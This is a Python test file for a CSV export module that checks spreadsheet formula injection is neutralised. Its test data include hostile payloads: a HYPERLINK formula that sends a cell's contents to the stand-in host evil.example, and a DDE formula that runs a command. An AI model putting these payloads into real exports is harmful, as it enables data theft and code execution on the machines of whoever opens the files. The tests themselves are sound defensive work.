"""Cells of CSV: text stays text, whoever opens the file."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from goalfund.paper import cells
from goalfund.paper.cells import BOM, disarmed, row

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=1+1",
    "+2349012345678",
    "-1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    '"=1+1',
    "'=1+1",
    "\uff1d1+1",  # the wide forms of = + - @
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "=cmd|' /C calc'!A0",
    "|cmd",
    "%0A=1",
    "\tplain",
]
NAMES = ["Ada Obi", "Ọlá-Nwáchúkwụ", "O'Brien", "A = B", "3 + 4", "ada@example.org", "", "₦500"]


def read(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode(), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_is_text(text: str) -> None:
    """Reliability 105."""
    ((cell, _),) = read(row((disarmed(text), "")))

    assert f"'{text}" == cell


@pytest.mark.parametrize("name", NAMES)
def test_a_name_is_left_as_it_is(name: str) -> None:
    """Reliability 105: the rule above is not that everything gets an apostrophe."""
    ((cell, _),) = read(row((disarmed(name), "")))

    assert name == cell


@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00")))
def test_whatever_is_written_is_read_back_as_one_cell(text: str) -> None:
    assert [["before", disarmed(text), "1.00"]] == read(row(("before", disarmed(text), "1.00")))


def test_a_row_ends_as_the_rfc_says_and_nothing_stays_empty_text() -> None:
    assert b'1,,"a,b","say ""no"""\r\n' == row((1, None, "a,b", 'say "no"'))
    assert b"\xef\xbb\xbf" == BOM


def test_a_cell_that_is_not_disarmed_is_noticed(monkeypatch: pytest.MonkeyPatch) -> None:
    """Negative control."""
    monkeypatch.setattr(cells, "disarmed", lambda text: text)

    ((cell, _),) = read(row((cells.disarmed(FORMULAS[0]), "")))
    assert f"'{FORMULAS[0]}" != cell
